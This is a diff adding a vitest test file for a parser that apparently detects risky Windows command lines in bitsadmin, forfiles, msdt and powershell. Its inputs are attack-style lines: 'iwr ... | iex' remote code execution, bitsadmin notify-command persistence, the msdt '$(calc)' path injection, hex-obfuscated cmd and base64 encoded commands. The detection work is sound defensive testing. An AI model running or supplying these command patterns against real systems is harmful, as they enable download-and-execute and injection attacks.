@@ -1,0 +1,82 @@
+import { describe, expect, it } from "vitest";
+import type { Grammar } from "../../catalog/types.ts";
+import { splitArguments } from "../../cmdline/windows/tokens.ts";
+import { parseLine } from "../parse.ts";
+
+const plain: Grammar = {
+  style: "windows",
+  options: {},
+  operands: [],
+  pairs: {},
+  commands: {},
+  caseSensitive: false,
+  abbreviate: false,
+  bundleFirst: false,
+};
+
+/** Elements that a reader makes of a line's arguments; the grammar has options that take the next word. */
+function read(reader: string, text: string, ...options: readonly string[]): Record<string, string[]> {
+  const named = options.map((name) => [
+    name,
+    { name, takes: "value", after: "", next: true, glued: false, count: 0, ends: [] } as const,
+  ]);
+  const { values } = parseLine(
+    { ...plain, reader, options: Object.fromEntries(named) },
+    { args: splitArguments(text), text },
+  );
+  return Object.fromEntries([...values].map(([element, found]) => [element, found.map((value) => value.text)]));
+}
+
+describe("bitsadmin", () => {
+  it.each<[string, object]>([
+    ["/transfer j /download /priority high http://h/a C:\\a", { source: ["http://h/a"], target: ["C:\\a"] }],
+    [
+      "/transfer j http://h/a C:\\a http://h/b C:\\b",
+      { source: ["http://h/a", "http://h/b"], target: ["C:\\a", "C:\\b"] },
+    ],
+    ["/transfer j /upload http://h/a C:\\a", { url: ["http://h/a"], local: ["C:\\a"] }],
+    ["/addfile 1 C:\\a C:\\b", { job: ["1"], source: ["C:\\a"], target: ["C:\\b"] }],
+    ["/create 1 bitsadmin /addfile 1 C:\\a C:\\b bitsadmin /resume 1", { command: ["create", "addfile", "resume"] }],
+    ['/setnotifycmdline 1 C:\\x.exe "x.exe /y z"', { notify: ["C:\\x.exe /y z"] }],
+    ["/setnotifycmdline 1 regsvr32 /s C:\\x.dll", { notify: ["regsvr32 /s C:\\x.dll"] }],
+    ["/setnotifycmdline 1 C:\\x.exe NULL", { notify: ["C:\\x.exe"] }],
+  ])("%s", (line, expected) => {
+    expect(read("bitsadmin", line)).toMatchObject(expected);
+  });
+
+  it("runs nothing where the notification is taken back", () => {
+    expect(read("bitsadmin", "/setnotifycmdline 1 NULL NULL").notify).toBeUndefined();
+  });
+});
+
+describe("forfiles", () => {
+  it("puts in what hexadecimal codes stand for", () => {
+    expect(read("forfiles", "/c 0x63md0x20/c", "c")).toEqual({ c: ["cmd /c"] });
+  });
+});
+
+describe("msdt", () => {
+  it.each<[string, string[] | undefined]>([
+    ['/param "IT_BrowseForFile=/../../$(calc).exe"', ["calc"]],
+    ['/param "a=$(b(c(d)))i/../x.exe"', ["b(c(d))"]],
+    ['/param "a=$(b"', ["b"]],
+    ['/param "a=b"', undefined],
+  ])("%s", (line, code) => {
+    expect(read("msdt", line, "param").code).toEqual(code);
+  });
+});
+
+describe("powershell", () => {
+  it.each<[string, object]>([
+    ["-nop -w 1 -c calc", { noprofile: [""], windowstyle: ["1"], code: ["calc"], text: ["calc"] }],
+    ["-f C:\\x.ps1 -a 1", { file: ["C:\\x.ps1"], argument: ["-a", "1"] }],
+    [`-e ${Buffer.from("calc", "utf16le").toString("base64")}`, { code: ["calc"], decoded: ["calc"] }],
+    ["-enc ???", { undecoded: ["???"] }],
+    ['"iwr http://h/x | iex"', { remoteCode: ["http://h/x"] }],
+    ['"iwr http://h/x -OutFile y"', { remoteFile: ["http://h/x"] }],
+    ["[Reflection.Assembly]::LoadFile('C:\\x.dll')", { assembly: ["C:\\x.dll"] }],
+    ["-", { input: [""] }],
+  ])("%s", (line, expected) => {
+    expect(read("powershell", line)).toMatchObject(expected);
+  });
+});
